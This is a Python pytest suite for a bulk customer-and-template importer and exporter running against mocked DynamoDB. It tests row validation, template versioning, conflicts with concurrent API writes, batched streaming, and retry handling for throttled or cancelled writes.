"""The bulk importer and exporter (tools.importer) against moto's DynamoDB."""

import csv
import io
import itertools
import json
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.awsrequest import AWSResponse

from chalicelib.adapters.dynamodb import DynamoDBRepository
from chalicelib.adapters.memory import InMemoryRepository
from chalicelib.domain.letters import render_letter
from chalicelib.domain.records import RECORDS, Customer, Template
from chalicelib.domain.storage import Repository
from tests.faults import dynamodb_error, dynamodb_ok
from tests.support import AWS, NOW, TABLE, record_calls
from tools import importer, rowfiles
from tools.exporter import export_file
from tools.importer import PATIENCE, Problem, Summary, import_file
from tools.progress import Progress
from tools.rowfiles import FileError, record_key
from tools.stack import PROJECT_DIR, SAMPLE_ITEMS, create_table

SAMPLES = PROJECT_DIR / "samples"
LATER = NOW + timedelta(hours=1)
STAMP = {"S": "2026-11-23T21:00:00Z"}
LATER_STAMP = {"S": "2026-11-23T22:00:00Z"}
SEEDED = {item["PK"]["S"]: item for item in SAMPLE_ITEMS}


@pytest.fixture
def slept() -> list[float]:
    return []


@pytest.fixture
def log() -> io.StringIO:
    return io.StringIO()


def on_table(slept: list[float], table: str = TABLE, counted: AWS | None = None) -> Any:
    """The importer's repository on ``table`` in moto, its waits recorded in ``slept`` and,
    given ``counted``, its calls in ``counted.calls`` and ``counted.sends``."""
    dynamodb = boto3.resource("dynamodb").Table(table)
    if counted is not None:
        record_calls(dynamodb.meta.client, counted)
    return DynamoDBRepository(dynamodb, PATIENCE._replace(sleep=slept.append))


@pytest.fixture
def run(aws: AWS, slept: list[float], log: io.StringIO) -> Any:
    """``import_file`` into the dev table (or ``repository``) at ``NOW`` (or ``at``), waits
    and messages recorded."""

    def run_import(path: Path, at: Any = NOW, repository: Repository | None = None) -> Summary:
        return import_file(path, repository or on_table(slept), clock=lambda: at, log=log)

    return run_import


def jsonl(tmp_path: Path, *rows: dict | str, name: str = "rows.jsonl") -> Path:
    """A JSON Lines file; a str is written as the line itself (for broken rows)."""
    path = tmp_path / name
    lines = (row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in rows)
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def csv_file(tmp_path: Path, *lines: str, name: str = "rows.csv") -> Path:
    """A CSV file of ``lines``, each ended with CR LF, as spreadsheets write them."""
    path = tmp_path / name
    path.write_text("".join(line + "\r\n" for line in lines), encoding="utf-8")
    return path


def customer(customer_id: str, name: str, **attributes: Any) -> dict:
    row = {"kind": "customer", "customerId": customer_id, "name": name}
    return row | ({"attributes": attributes} if attributes else {})


def template(doc_type: str, text: str, **optional: str) -> dict:
    return {"kind": "template", "docType": doc_type, "text": text, **optional}


def stored(aws: AWS, table: str = TABLE) -> dict[str, dict]:
    """Every item of ``table`` by PK."""
    items = aws.dynamodb.scan(TableName=table, ConsistentRead=True)["Items"]
    return {item["PK"]["S"]: item for item in items}


def catalog(aws: AWS, table: str = TABLE) -> dict[str, dict]:
    """The customer and template items of ``table`` by PK: what an export holds (no
    template versions)."""
    return {key: item for key, item in stored(aws, table).items() if key.startswith(("C#", "D#"))}


def without_version(items: dict[str, dict]) -> dict[str, dict]:
    drop = ("version", "updatedAt")
    return {key: {k: v for k, v in item.items() if k not in drop} for key, item in items.items()}


def records(repository: Repository) -> dict[str, Any]:
    """Every customer and template ``repository`` holds, by key (``C#ann``)."""
    return {record_key(record): record for record in repository.every(RECORDS)}


def counts(summary: Summary) -> tuple[int, int, int, int, int, int]:
    """rows, written, unchanged, bad, superseded and failed (conflicted ones: ``.conflicted``)."""
    return (
        summary.rows,
        summary.written,
        summary.unchanged,
        summary.bad,
        summary.superseded,
        summary.failed,
    )


# Importing


def test_good_rows_become_exactly_these_items(aws: AWS, run: Any, tmp_path: Path) -> None:
    path = jsonl(
        tmp_path,
        customer("ZoeLukasz", "Zoë Łukasz Ωμέγα Дмитрий", city="Kraków", visits=12, ratio=0.5),
        customer("flags", "Flags", vip=True, note=None, big=10**30),
        template(
            "Summary",
            "{% for key, value in attributes|dictsort %}{{ key }}={{ value }}\n{% endfor %}",
            greeting="Hello {{ name }},",
            description="every attribute",
        ),
        template("Bare", "Just this.", greeting=""),
    )

    summary = run(path)

    assert counts(summary) == (4, 4, 0, 0, 0, 0)
    assert summary.problems == []
    assert summary.exit_code == 0
    assert summary.line() == "imported 4 rows: 4 written, 0 unchanged, 0 bad"
    version_1 = {"version": {"N": "1"}, "updatedAt": STAMP}
    assert stored(aws) == SEEDED | {
        "C#ZoeLukasz": {
            "PK": {"S": "C#ZoeLukasz"},
            "data": {"S": "Zoë Łukasz Ωμέγα Дмитрий"},
            "attributes": {
                "M": {"city": {"S": "Kraków"}, "visits": {"N": "12"}, "ratio": {"N": "0.5"}}
            },
            **version_1,
        },
        "C#flags": {
            "PK": {"S": "C#flags"},
            "data": {"S": "Flags"},
            "attributes": {
                "M": {"vip": {"BOOL": True}, "note": {"NULL": True}, "big": {"N": str(10**30)}}
            },
            **version_1,
        },
        "D#Summary": {
            "PK": {"S": "D#Summary"},
            "data": {
                "S": "{% for key, value in attributes|dictsort %}{{ key }}={{ value }}\n"
                "{% endfor %}"
            },
            "greeting": {"S": "Hello {{ name }},"},
            "description": {"S": "every attribute"},
            **version_1,
        },
        "D#Bare": {
            "PK": {"S": "D#Bare"},
            "data": {"S": "Just this."},
            "greeting": {"S": ""},
            **version_1,
        },
        # Each template's version 1, and its head: the last number given out.
        "V#Summary#1": {
            "PK": {"S": "V#Summary#1"},
            "data": {
                "S": "{% for key, value in attributes|dictsort %}{{ key }}={{ value }}\n"
                "{% endfor %}"
            },
            "greeting": {"S": "Hello {{ name }},"},
            "description": {"S": "every attribute"},
            **version_1,
        },
        "V#Summary": {"PK": {"S": "V#Summary"}, "latest": {"N": "1"}},
        "V#Bare#1": {
            "PK": {"S": "V#Bare#1"},
            "data": {"S": "Just this."},
            "greeting": {"S": ""},
            **version_1,
        },
        "V#Bare": {"PK": {"S": "V#Bare"}, "latest": {"N": "1"}},
    }


def test_bad_rows_are_reported_by_line_and_good_rows_still_land(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO
) -> None:
    path = jsonl(
        tmp_path,
        customer("good1", "Good One"),
        customer("bad id", "X"),
        "",
        "{not json",
        customer("B2", ""),
        template("T1", "{% for x in %}"),
        '{"kind": "letter"}',
        '{"kind": "customer", "customerId": "C3", "name": "N", "attributes": {"n": 1e400}}',
        "[1, 2]",
        customer("C4", "N") | {"version": 3},
        template("T2", "ok", greeting="{{ name "),
        '{"kind": "customer", "customerId": "C5", "name": "N", "attributes": {"x": NaN}}',
        customer("C6", "N", **{"1st": "x"}),
        {"kind": "customer", "name": "No Id"},
        customer("C7", "Line\nbreak"),
        template("Deep", "{{ " + "(" * 100 + "1" + ")" * 100 + " }}"),
        '{"kind": "customer", "customerId": "C8", "name": "a\\ud800b"}',
        template("good2", "Hello {{ name }}"),
    )

    summary = run(path)

    assert summary.problems == [
        Problem(
            2,
            "customerId must be 1 to 64 characters of A-Z, a-z, 0-9, '_', '.' or '-', "
            "starting with a letter or a digit",
        ),
        Problem(4, "not valid JSON: Expecting property name enclosed in double quotes at column 2"),
        Problem(5, "name must be longer than or equal to 1 characters"),
        Problem(
            6,
            "text, line 1: syntax error: Expected an expression, got 'end of statement block'",
        ),
        Problem(7, "kind must be 'customer' or 'template'"),
        Problem(
            8,
            "the number 1e400 cannot be stored: numbers may have at most 38 significant digits "
            "and be 0 or between 1e-130 and 1e126 in size",
        ),
        Problem(9, "a row must be a JSON object"),
        Problem(10, "body must not contain {'version'} properties"),
        Problem(
            11,
            "greeting, line 1: syntax error: unexpected end of template, "
            "expected 'end of print statement'.",
        ),
        Problem(12, "not valid JSON: NaN is not a JSON number"),
        Problem(
            13,
            "attributes must have names of letters, digits and '_' (not starting with a digit), "
            "at most 64 characters",
        ),
        Problem(14, "customerId is required"),
        Problem(15, "name must not contain control characters"),
        Problem(16, "text, brackets may be nested at most 30 deep"),
        Problem(
            17,
            "the body contains an unpaired surrogate (\\ud800 to \\udfff): "
            "text must be valid Unicode",
        ),
    ]
    assert counts(summary) == (17, 2, 0, 15, 0, 0)  # the blank line 3 is not a row
    assert summary.exit_code == 1
    assert summary.line() == "imported 17 rows: 2 written, 0 unchanged, 15 bad"
    messages = log.getvalue().splitlines()
    assert messages[0] == f"{path}:2: customerId must be 1 to 64 characters of A-Z, a-z, 0-9, " + (
        "'_', '.' or '-', starting with a letter or a digit"
    )
    assert len(messages) == 15
    assert set(stored(aws)) == {*SEEDED, "C#good1", "D#good2", "V#good2", "V#good2#1"}


def test_csv_bad_rows_are_reported_by_the_line_they_start_on(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    path = csv_file(
        tmp_path,
        "kind,id,name,text,greeting,description,attributes",
        'template,Multi,,"line one\nline two\nline three",,,',
        "customer,ok1,Okay,,,,",
        "customer,short,Short",
        "customer,withtext,Name,some text,,,",
        "customer,badattrs,Name,,,,{plan: gold}",
        'customer,list,Name,,,,"[1, 2]"',
        "template,named,Someone,text,,,",
        "",
        "customer,,Nameless,,,,",
    )

    summary = run(path)

    assert summary.problems == [
        Problem(6, "expected 7 cells, found 3"),
        Problem(7, "body must not contain {'text'} properties"),
        Problem(
            8,
            "attributes: not valid JSON: Expecting property name enclosed in double quotes "
            "at column 2",
        ),
        Problem(9, "attributes must be object"),
        Problem(10, "body must not contain {'name'} properties"),
        Problem(
            12,
            "customerId must be 1 to 64 characters of A-Z, a-z, 0-9, '_', '.' or '-', "
            "starting with a letter or a digit",
        ),
    ]
    assert counts(summary) == (8, 2, 0, 6, 0, 0)
    assert stored(aws)["D#Multi"]["data"] == {"S": "line one\nline two\nline three"}
    assert stored(aws)["C#ok1"]["data"] == {"S": "Okay"}


def test_a_rerun_writes_nothing_and_keeps_versions(aws: AWS, run: Any, slept: list[float]) -> None:
    run(SAMPLES / "customers-and-templates.jsonl")
    before = stored(aws)

    summary = run(
        SAMPLES / "customers-and-templates.jsonl", at=LATER, repository=on_table(slept, counted=aws)
    )

    assert counts(summary) == (10, 0, 10, 0, 0, 0)
    assert summary.line() == "imported 10 rows: 0 written, 10 unchanged, 0 bad"
    assert aws.calls == ["BatchGetItem", "BatchGetItem"]  # a batch of customers, one of templates
    assert stored(aws) == before


def test_a_changed_row_is_written_with_the_next_version(aws: AWS, run: Any, tmp_path: Path) -> None:
    run(jsonl(tmp_path, customer("a", "A", plan="gold", seats=2), customer("b", "B")))

    summary = run(
        jsonl(tmp_path, customer("a", "A", plan="silver", seats=2), customer("b", "B")), at=LATER
    )

    assert counts(summary) == (2, 1, 1, 0, 0, 0)
    items = stored(aws)
    assert items["C#a"] == {
        "PK": {"S": "C#a"},
        "data": {"S": "A"},
        "attributes": {"M": {"plan": {"S": "silver"}, "seats": {"N": "2"}}},
        "version": {"N": "2"},
        "updatedAt": LATER_STAMP,
    }
    assert items["C#b"]["version"] == {"N": "1"}
    assert items["C#b"]["updatedAt"] == STAMP


def test_equal_numbers_are_unchanged_but_a_boolean_is_not_a_number(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    run(jsonl(tmp_path, customer("a", "A", seats=2, rate=1.5, on=1)))

    same = jsonl(
        tmp_path,
        '{"kind": "customer", "customerId": "a", "name": "A", '
        '"attributes": {"seats": 2.0, "rate": 1.50, "on": 1}}',
    )
    assert counts(run(same, at=LATER)) == (1, 0, 1, 0, 0, 0)
    flipped = jsonl(tmp_path, customer("a", "A", seats=2, rate=1.5, on=True))
    assert counts(run(flipped, at=LATER)) == (1, 1, 0, 0, 0, 0)
    assert stored(aws)["C#a"]["attributes"]["M"]["on"] == {"BOOL": True}
    assert stored(aws)["C#a"]["version"] == {"N": "2"}


def test_the_samples_seeded_items_count_as_version_0(aws: AWS, run: Any, tmp_path: Path) -> None:
    unchanged = jsonl(
        tmp_path,
        customer("TestCustomer", "Testing Customer"),
        template("Welcome", "\nHello and Welcome!\n"),
    )
    assert counts(run(unchanged)) == (2, 0, 2, 0, 0, 0)
    assert stored(aws) == SEEDED  # not even a version added

    changed = jsonl(
        tmp_path,
        customer("TestCustomer", "Testing Customer", plan="gold"),
        template("Welcome", "\nHello and Welcome!\n", description="the sample's letter"),
    )
    assert counts(run(changed)) == (2, 2, 0, 0, 0, 0)
    welcome = {
        "data": {"S": "\nHello and Welcome!\n"},
        "description": {"S": "the sample's letter"},
        "version": {"N": "1"},
        "updatedAt": STAMP,
    }
    assert stored(aws) == {
        "C#TestCustomer": {
            "PK": {"S": "C#TestCustomer"},
            "data": {"S": "Testing Customer"},
            "attributes": {"M": {"plan": {"S": "gold"}}},
            "version": {"N": "1"},
            "updatedAt": STAMP,
        },
        "D#Welcome": {"PK": {"S": "D#Welcome"}, **welcome},
        "V#Welcome#1": {"PK": {"S": "V#Welcome#1"}, **welcome},
        # The sample's item, kept as version 0 as it was replaced.
        "V#Welcome#0": {
            "PK": {"S": "V#Welcome#0"},
            "data": {"S": "\nHello and Welcome!\n"},
            "version": {"N": "0"},
        },
        "V#Welcome": {"PK": {"S": "V#Welcome"}, "latest": {"N": "1"}},
    }


def test_a_dropped_greeting_is_removed_and_other_attributes_are_kept(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    aws.put_item(
        PK={"S": "D#Note"},
        data={"S": "x"},
        greeting={"S": ""},
        version={"N": "7"},
        createdAt={"S": "2020-01-01T00:00:00Z"},
    )

    assert counts(run(jsonl(tmp_path, template("Note", "x")))) == (1, 1, 0, 0, 0, 0)

    assert stored(aws)["D#Note"] == {
        "PK": {"S": "D#Note"},
        "data": {"S": "x"},
        "version": {"N": "8"},
        "updatedAt": STAMP,
        "createdAt": {"S": "2020-01-01T00:00:00Z"},
    }
    # Version 7 had no item of its own: it is kept as it was, the new one is version 8.
    assert stored(aws)["V#Note#7"] == {
        "PK": {"S": "V#Note#7"},
        "data": {"S": "x"},
        "greeting": {"S": ""},
        "version": {"N": "7"},
        "createdAt": {"S": "2020-01-01T00:00:00Z"},
    }
    assert stored(aws)["V#Note#8"] == {
        "PK": {"S": "V#Note#8"},
        "data": {"S": "x"},
        "version": {"N": "8"},
        "updatedAt": STAMP,
    }
    assert stored(aws)["V#Note"] == {"PK": {"S": "V#Note"}, "latest": {"N": "8"}}


def test_a_key_given_twice_is_written_once_with_the_last_row(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    path = jsonl(tmp_path, customer("a", "First"), customer("b", "B"), customer("a", "Second"))

    summary = run(path, repository=on_table(slept, counted=aws))

    assert counts(summary) == (3, 2, 0, 0, 1, 0)
    assert summary.exit_code == 0
    assert summary.line() == "imported 3 rows: 2 written, 0 unchanged, 0 bad, 1 superseded"
    assert log.getvalue() == f"{path}:1: customer a is given again on line 3; the later row wins\n"
    assert stored(aws)["C#a"]["data"] == {"S": "Second"}
    assert stored(aws)["C#a"]["version"] == {"N": "1"}
    assert aws.calls == ["BatchGetItem", "TransactWriteItems"]


def test_250_rows_take_3_reads_and_3_writes(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(
        tmp_path, *(customer(f"c{number:03}", f"Customer {number}") for number in range(250))
    )

    summary = run(path, repository=on_table(slept, counted=aws))

    assert counts(summary) == (250, 250, 0, 0, 0, 0)
    assert aws.calls == ["BatchGetItem", "TransactWriteItems"] * 3
    assert len(stored(aws)) == 250 + len(SEEDED)


# API writers racing the importer


@pytest.fixture(params=["dynamodb", "memory"])
def repository(request: pytest.FixtureRequest, aws: AWS, slept: list[float]) -> Repository:
    """Either repository: the contract, and so what the importer does, is the same."""
    return on_table(slept) if request.param == "dynamodb" else InMemoryRepository()


class _APIWritesAfterTheRead:
    """``repository``, where an API client's PUT of each of ``writes`` lands just after the
    importer's read, conditional (``If-Match``) on the version that read found."""

    def __init__(self, repository: Repository, *writes: Customer | Template) -> None:
        self.repository = repository
        self.writes = list(writes)

    def get_many(self, model: type, identifiers: list[str]) -> dict[str, Any]:
        found = self.repository.get_many(model, identifiers)
        for record in self.writes:
            read = found.get(record.identifier)
            self.repository.put(record, None if read is None else read.version)
        self.writes = []
        return found

    def put_many(self, writes: list[tuple[Any, int | None]]) -> list[Any]:
        return self.repository.put_many(writes)


def test_an_api_write_after_the_read_is_a_conflict_and_a_rerun_imports_over_it(
    run: Any, tmp_path: Path, log: io.StringIO, repository: Repository
) -> None:
    run(jsonl(tmp_path, customer("a", "A"), customer("b", "B")), repository=repository)
    path = jsonl(
        tmp_path,
        customer("a", "A2"),
        customer("b", "B from the file"),
        customer("c", "C"),
        customer("d", "D from the file"),
        name="second.jsonl",
    )
    at_api = "2026-11-23T21:30:00Z"
    api_b = Customer("b", "B from the API", {"plan": "gold"}, updated_at=at_api)
    api_d = Customer("d", "D from the API", updated_at=at_api)

    summary = run(path, at=LATER, repository=_APIWritesAfterTheRead(repository, api_b, api_d))

    changed = "changed since it was read; run the import again"
    assert summary.problems == [
        Problem(2, f"not imported: customer b {changed}"),
        Problem(4, f"not imported: customer d {changed}"),
    ]
    assert counts(summary) == (4, 2, 0, 0, 0, 0)
    assert summary.conflicted == 2
    assert summary.exit_code == 1
    assert summary.line() == "imported 4 rows: 2 written, 0 unchanged, 0 bad, 2 conflicted"
    assert log.getvalue() == (
        f"{path}:2: not imported: customer b {changed}\n"
        f"{path}:4: not imported: customer d {changed}\n"
    )
    later = LATER_STAMP["S"]
    after_race = records(repository)
    assert after_race["C#b"] == replace(api_b, version=2)  # the API's content, the API's version
    assert after_race["C#d"] == replace(api_d, version=1)
    assert after_race["C#a"] == Customer("a", "A2", version=2, updated_at=later)
    assert after_race["C#c"] == Customer("c", "C", version=1, updated_at=later)

    again = run(path, at=LATER, repository=repository)

    assert counts(again) == (4, 2, 2, 0, 0, 0)
    assert again.conflicted == 0
    rerun = records(repository)
    assert rerun["C#b"] == Customer("b", "B from the file", version=3, updated_at=later)
    assert rerun["C#d"] == Customer("d", "D from the file", version=2, updated_at=later)
    assert rerun["C#a"] == after_race["C#a"]


# Template versions


def test_each_changed_template_row_is_a_new_version_and_an_unchanged_one_writes_nothing(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    first = jsonl(tmp_path, template("Renewal", "One.\n"), name="first.jsonl")
    second = jsonl(tmp_path, template("Renewal", "Two.\n", description="d"), name="second.jsonl")
    repository = on_table(slept, counted=aws)

    run(first, repository=repository)
    first_calls, aws.calls[:] = list(aws.calls), []
    run(second, at=LATER, repository=repository)
    before = stored(aws)
    aws.calls.clear()
    again = run(second, at=LATER, repository=repository)

    # The templates, then their version heads, then one transaction.
    assert first_calls == ["BatchGetItem", "BatchGetItem", "TransactWriteItems"]
    assert counts(again) == (1, 0, 1, 0, 0, 0)
    assert aws.calls == ["BatchGetItem"]
    assert stored(aws) == before
    assert repository.get_version("Renewal", 1) == Template(
        "Renewal", "One.\n", version=1, updated_at=STAMP["S"]
    )
    assert repository.get_version("Renewal", 2) == Template(
        "Renewal", "Two.\n", description="d", version=2, updated_at=LATER_STAMP["S"]
    )
    assert stored(aws)["V#Renewal"] == {"PK": {"S": "V#Renewal"}, "latest": {"N": "2"}}


def test_a_template_imported_after_a_delete_takes_the_next_number(
    run: Any, tmp_path: Path, repository: Repository
) -> None:
    run(jsonl(tmp_path, template("Renewal", "One.\n")), repository=repository)
    repository.delete(Template, "Renewal", None)

    summary = run(jsonl(tmp_path, template("Renewal", "One.\n")), at=LATER, repository=repository)

    assert counts(summary) == (1, 1, 0, 0, 0, 0)  # absent, so written again: as version 2
    assert repository.get(Template, "Renewal") == Template(
        "Renewal", "One.\n", version=2, updated_at=LATER_STAMP["S"]
    )
    page = repository.template_versions("Renewal", 10, None)
    assert page is not None and [v.version for v in page.items] == [2, 1]


def test_an_api_write_of_a_template_after_the_read_is_a_conflict_and_no_version_is_lost(
    run: Any, tmp_path: Path, log: io.StringIO, repository: Repository
) -> None:
    run(jsonl(tmp_path, template("Renewal", "One.\n")), repository=repository)
    api = Template("Renewal", "From the API.\n", updated_at="2026-11-23T21:30:00Z")
    path = jsonl(tmp_path, template("Renewal", "From the file.\n"), name="second.jsonl")

    summary = run(path, at=LATER, repository=_APIWritesAfterTheRead(repository, api))

    assert summary.problems == [
        Problem(1, "not imported: template Renewal changed since it was read; run the import again")
    ]
    assert repository.get_version("Renewal", 2) == replace(api, version=2)

    assert counts(run(path, at=LATER, repository=repository)) == (1, 1, 0, 0, 0, 0)
    page = repository.template_versions("Renewal", 10, None)
    assert page is not None and [v.version for v in page.items] == [3, 2, 1]
    assert repository.get_version("Renewal", 3) == Template(
        "Renewal", "From the file.\n", version=3, updated_at=LATER_STAMP["S"]
    )


def test_template_versions_are_not_exported(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    run(jsonl(tmp_path, template("Renewal", "One.\n"), template("Welcome", "Hi.\n")))
    run(jsonl(tmp_path, template("Renewal", "Two.\n"), name="two.jsonl"), at=LATER)
    exported = tmp_path / "export.jsonl"

    summary = export_file(exported, on_table(slept), "templates", log=log)

    assert summary.line() == "exported 2 rows: 0 customers, 2 templates"
    assert exported.read_text(encoding="utf-8") == (
        '{"kind": "template", "docType": "Renewal", "text": "Two.\\n"}\n'
        '{"kind": "template", "docType": "Welcome", "text": "Hi.\\n"}\n'
    )
    assert sorted(key for key in stored(aws) if key.startswith("V#")) == [
        "V#Renewal", "V#Renewal#1", "V#Renewal#2", "V#Welcome", "V#Welcome#0", "V#Welcome#1",
    ]  # fmt: skip


# Streaming


def _runs(events: list[str]) -> list[str]:
    """``["row", "row", "write 2"]`` as ``["row x2", "write 2"]``."""
    return [
        name if (count := len(list(group))) == 1 else f"{name} x{count}"
        for name, group in itertools.groupby(events)
    ]


def test_the_file_is_read_twice_and_written_a_batch_at_a_time(
    tmp_path: Path, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [customer(f"c{number:03}", f"C {number}") for number in range(250)]
    path = jsonl(tmp_path, *rows, customer("c000", "C 0 again"))
    events: list[str] = []

    def reading(path: Path) -> Any:
        events.append("open")
        for entry in rowfiles.read_rows(path):
            events.append("row")
            yield entry

    class Counting(InMemoryRepository):
        def put_many(self, writes: Any) -> Any:
            events.append(f"write {len(writes)}")
            return super().put_many(writes)

    monkeypatch.setattr(importer, "read_rows", reading)
    repository = Counting()

    summary = import_file(path, repository, log=log)

    assert counts(summary) == (251, 250, 0, 0, 1, 0)
    # The first pass checks every row and keeps only line numbers; the second holds one
    # batch of rows at a time, written before the next is read.
    assert _runs(events) == [
        "open", "row x251",
        "open", "row x101", "write 100", "row x100", "write 100", "row x50", "write 50",
    ]  # fmt: skip
    assert records(repository)["C#c000"].name == "C 0 again"


def test_a_file_that_changes_between_the_passes_stops_the_import(
    tmp_path: Path, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = jsonl(tmp_path, customer("a", "A"), customer("b", "B"))
    passes: list[Path] = []

    def reading(path: Path) -> Any:
        passes.append(path)
        if len(passes) == 2:
            jsonl(tmp_path, customer("b", "B"), customer("a", "A"))  # the lines swapped
        return rowfiles.read_rows(path)

    monkeypatch.setattr(importer, "read_rows", reading)
    repository = InMemoryRepository()

    with pytest.raises(FileError, match="it changed while it was imported; run the import again"):
        import_file(path, repository, log=log)
    assert repository.items == {}


# DynamoDB pushing back


def _instead_of_dynamodb(request: Any, answer: Any) -> Any:
    """``answer`` as DynamoDB's, with nothing done: moto's own ``before-send`` handler runs
    after this hook and, its answer ignored, would still carry the request out; so the
    request it sees is emptied first."""
    empty = {"TransactItems": []} if b"TransactItems" in request.body else {"RequestItems": {}}
    request.body = json.dumps(empty).encode()
    return answer


class _Body:
    def __init__(self, data: bytes) -> None:
        self.data = data

    def stream(self, **_: Any) -> Any:
        yield self.data


def _cancelled(*codes: str) -> Any:
    """A TransactWriteItems answer that cancels it, one reason per write: nothing written."""
    reasons = [
        {"Code": code} | ({} if code == "None" else {"Message": f"{code} here"}) for code in codes
    ]
    body = {
        "__type": "com.amazonaws.dynamodb.v20120810#TransactionCanceledException",
        "Message": "Transaction cancelled",
        "CancellationReasons": reasons,
    }
    headers = {
        "Content-Type": "application/x-amz-json-1.0",
        "x-amzn-ErrorType": "TransactionCanceledException",
    }

    def answer(request: Any) -> AWSResponse:
        assert len(json.loads(request.body)["TransactItems"]) == len(codes)
        cancelled = AWSResponse(request.url, 400, headers, _Body(json.dumps(body).encode()))
        return _instead_of_dynamodb(request, cancelled)

    return answer


def _throttled(request: Any, **_: Any) -> Any:
    """Every write of the transaction cancelled because the table was throttling."""
    writes = len(json.loads(request.body)["TransactItems"])
    return _cancelled(*["ThrottlingError"] * writes)(request)


def test_writes_cancelled_while_throttling_are_sent_again_after_a_wait(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(tmp_path, *(customer(f"c{number:02}", f"C {number}") for number in range(25)))
    repository = on_table(slept, counted=aws)
    answers = [_throttled, _throttled]
    repository.client.meta.events.register(
        "before-send.dynamodb.TransactWriteItems",
        lambda request, **_: answers.pop(0)(request) if answers else None,
    )

    summary = run(path, repository=repository)

    assert counts(summary) == (25, 25, 0, 0, 0, 0)
    assert aws.sends == ["BatchGetItem"] + ["TransactWriteItems"] * 3
    assert slept == [0.05, 0.1]
    assert without_version(stored(aws)) == SEEDED | {
        f"C#c{number:02}": {"PK": {"S": f"C#c{number:02}"}, "data": {"S": f"C {number}"}}
        for number in range(25)
    }
    assert {item.get("version", {}).get("N") for item in stored(aws).values()} == {None, "1"}


def test_writes_cancelled_for_good_are_failed_rows(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(tmp_path, customer("a", "A"), "oops", customer("b", "B"))
    repository = on_table(slept)
    repository.client.meta.events.register("before-send.dynamodb.TransactWriteItems", _throttled)

    summary = run(path, repository=repository)

    reason = "not imported: DynamoDB kept cancelling it (throttled) after 10 tries"
    assert summary.problems == [
        Problem(2, "not valid JSON: Expecting value at column 1"),
        Problem(1, reason),
        Problem(3, reason),
    ]
    assert counts(summary) == (3, 0, 0, 1, 0, 2)
    assert summary.exit_code == 1
    assert summary.line() == "imported 3 rows: 0 written, 0 unchanged, 1 bad, 2 failed"
    assert slept == [0.05, 0.1, 0.2, 0.4, 0.8, 1.6, 3.2, 5.0, 5.0]
    assert stored(aws) == SEEDED


def test_unprocessed_keys_are_read_again(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(tmp_path, customer("TestCustomer", "Testing Customer"), customer("new", "New"))
    repository = on_table(slept, counted=aws)
    answers = [
        lambda request: _instead_of_dynamodb(
            request,
            dynamodb_ok(
                {"Responses": {}, "UnprocessedKeys": json.loads(request.body)["RequestItems"]}
            )(request),
        )
    ]
    repository.client.meta.events.register(
        "before-send.dynamodb.BatchGetItem",
        lambda request, **_: answers.pop(0)(request) if answers else None,
    )

    summary = run(path, repository=repository)

    assert counts(summary) == (2, 1, 1, 0, 0, 0)  # the seeded customer was read, and is the same
    assert aws.sends == ["BatchGetItem", "BatchGetItem", "TransactWriteItems"]
    assert slept == [0.05]


def test_a_batch_dynamodb_refuses_is_sent_again_so_only_the_culprit_fails(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(tmp_path, customer("a", "A"), customer("Poison", "x"), customer("b", "B"))
    repository = on_table(slept, counted=aws)

    def refuse_poison(request: Any, **_: Any) -> Any:
        if b"C#Poison" in request.body:
            return _instead_of_dynamodb(request, dynamodb_error("ValidationException")(request))
        return None

    repository.client.meta.events.register("before-send.dynamodb.TransactWriteItems", refuse_poison)

    summary = run(path, repository=repository)

    assert summary.problems == [Problem(2, "not imported: DynamoDB refused it: x")]
    assert counts(summary) == (3, 2, 0, 0, 0, 1)
    assert aws.calls == ["BatchGetItem"] + ["TransactWriteItems"] * 4  # the batch, then one each
    assert set(stored(aws)) == {*SEEDED, "C#a", "C#b"}


def test_a_write_cancelled_as_invalid_fails_and_the_others_are_sent_again(
    aws: AWS, run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = jsonl(tmp_path, customer("a", "A"), customer("b", "B"), customer("c", "C"))
    repository = on_table(slept, counted=aws)
    answers = [_cancelled("None", "ValidationError", "None")]
    repository.client.meta.events.register(
        "before-send.dynamodb.TransactWriteItems",
        lambda request, **_: answers.pop(0)(request) if answers else None,
    )

    summary = run(path, repository=repository)

    assert summary.problems == [
        Problem(2, "not imported: DynamoDB refused it: ValidationError here")
    ]
    assert counts(summary) == (3, 2, 0, 0, 0, 1)
    assert aws.sends == ["BatchGetItem", "TransactWriteItems", "TransactWriteItems"]
    assert slept == []  # not throttled: the others go again at once
    assert set(stored(aws)) == {*SEEDED, "C#a", "C#c"}


def test_a_row_larger_than_the_api_accepts_is_bad(aws: AWS, run: Any, tmp_path: Path) -> None:
    # 100 KiB characters is within the schema, but 400 KiB of UTF-8: over the API's 256 KiB
    # body limit, and over DynamoDB's 400 KB item limit too.
    path = jsonl(tmp_path, template("Huge", "😀" * 100 * 1024), customer("a", "A"))

    summary = run(path)

    assert summary.problems == [Problem(1, "the body is 409611 bytes; at most 262144 are accepted")]
    assert set(stored(aws)) == {*SEEDED, "C#a"}


# Progress


def test_a_short_import_prints_nothing_but_a_long_one_shows_progress(
    tmp_path: Path, log: io.StringIO
) -> None:
    path = jsonl(tmp_path, *(customer(f"c{number:03}", f"C {number}") for number in range(250)))
    ticks = iter([0.0, 0.5, 1.2, 1.5])  # start, then after each of the 3 batches

    import_file(
        path,
        InMemoryRepository(),
        clock=lambda: NOW,
        log=log,
        progress=Progress(log, ticks.__next__),
    )

